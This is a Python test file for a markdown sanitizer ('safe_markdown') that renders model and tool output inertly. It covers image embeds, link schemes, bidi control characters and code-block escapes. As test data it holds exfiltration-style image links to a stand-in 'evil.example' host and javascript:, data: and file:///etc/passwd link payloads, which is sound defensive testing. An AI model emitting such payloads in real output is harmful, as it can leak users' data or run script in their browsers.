"""What models, tools and people wrote is drawn as text: it loads nothing, and `$` stays `$`."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.ui.safe_markdown import code_block, plain_label, safe_markdown


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/x.png?secret)",
        "![x][ref]\n\n[ref]: http://evil.example/x.png",
        "[![x](http://evil.example/x.png)](http://evil.example)",
        "`open ![x](http://evil.example/x.png)",
        "\\` ![x](http://evil.example/x.png) `",
        "` one\n\n![x](http://evil.example/x.png)\n\n two `",
        "    ```\n![x](http://evil.example/x.png)\n```",
        "```a`b\n![x](http://evil.example/x.png)\n```",
    ],
)
def test_no_image_is_left_that_a_browser_would_fetch(text):
    assert "![" not in safe_markdown(text)


def test_dollars_are_no_formula():
    assert safe_markdown("costs $5 and $10") == r"costs \$5 and \$10"
    assert safe_markdown(r"already \$5") == r"already \$5"


def test_code_is_kept_as_it_was_written():
    text = "```sh\necho $HOME :red[x]\nvec![1]\n```\nand `$x`"
    assert safe_markdown(text) == text


def test_a_code_block_that_is_still_streaming_is_kept():
    assert safe_markdown("```sh\necho $HOME") == "```sh\necho $HOME"


def test_directives_are_shown_as_text():
    assert ":red[" not in safe_markdown(":red[alarm]").replace("\\:", "")
    assert ":material/home:" not in safe_markdown(":material/home:")
    assert safe_markdown("at 10:30:15 today") == "at 10:30:15 today"


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "[x](file:///etc/passwd)",
        "[x](d&#97;ta:text/html,hi)",
        "[x]( <data:text/html,hi>)",
        "[x][r]\n\n[r]: data:text/html,hi",
    ],
)
def test_only_ordinary_links_lead_anywhere(link):
    assert "#blocked:" in safe_markdown(link)


def test_ordinary_links_are_kept():
    text = "[a](https://agno.com/x) [b](mailto:x@y.org) [c](#top) <https://agno.com>"
    assert safe_markdown(text) == text


TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@pytest.mark.parametrize("sign", TURNING)
@pytest.mark.parametrize("around", ["a {} b", "`a {} b`", "```\na {} b\n```", "[a {} b](https://agno.com)"])
def test_nothing_turns_the_text_that_follows_it(sign, around):
    spelled = f"\\u{ord(sign):04x}"
    assert safe_markdown(around.format(sign)) == around.format(spelled)
    assert plain_label(f"a {sign} b") == f"a \\{spelled} b"


@pytest.mark.parametrize(
    "text", ["مرحبا بالعالم، 14 درجة", "שלום (עולם)", "12\u200f שח\u200e", "👩\u200d👩\u200d👧", "می\u200cخواهم"]
)
def test_what_is_written_from_the_right_and_joined_signs_stay_as_they_are(text):
    assert safe_markdown(text) == text
    assert plain_label(text).replace("\\", "") == text


def test_a_label_is_one_literal_line():
    assert plain_label("a\n b") == "a b"
    assert plain_label("![x](http://evil/x.png)").startswith("\\!\\[x\\]")
    assert plain_label("costs $5") == r"costs \$5"
    assert len(plain_label("x" * 100, 10)) == 10


def test_a_code_block_cannot_be_broken_out_of():
    text = "before\n```\n![x](http://evil)\n````"
    assert code_block(text).startswith("`````\n")


@given(st.text(alphabet="!`[]()~$:\\ \nahttp/#<>", max_size=60))
def test_no_text_leaves_an_image_with_a_target(text):
    assert "![x](" not in safe_markdown(text + "![x](http://evil.example)")


@given(st.text(max_size=200))
def test_any_text_makes_a_label_of_one_line(text):
    assert "\n" not in plain_label(text)
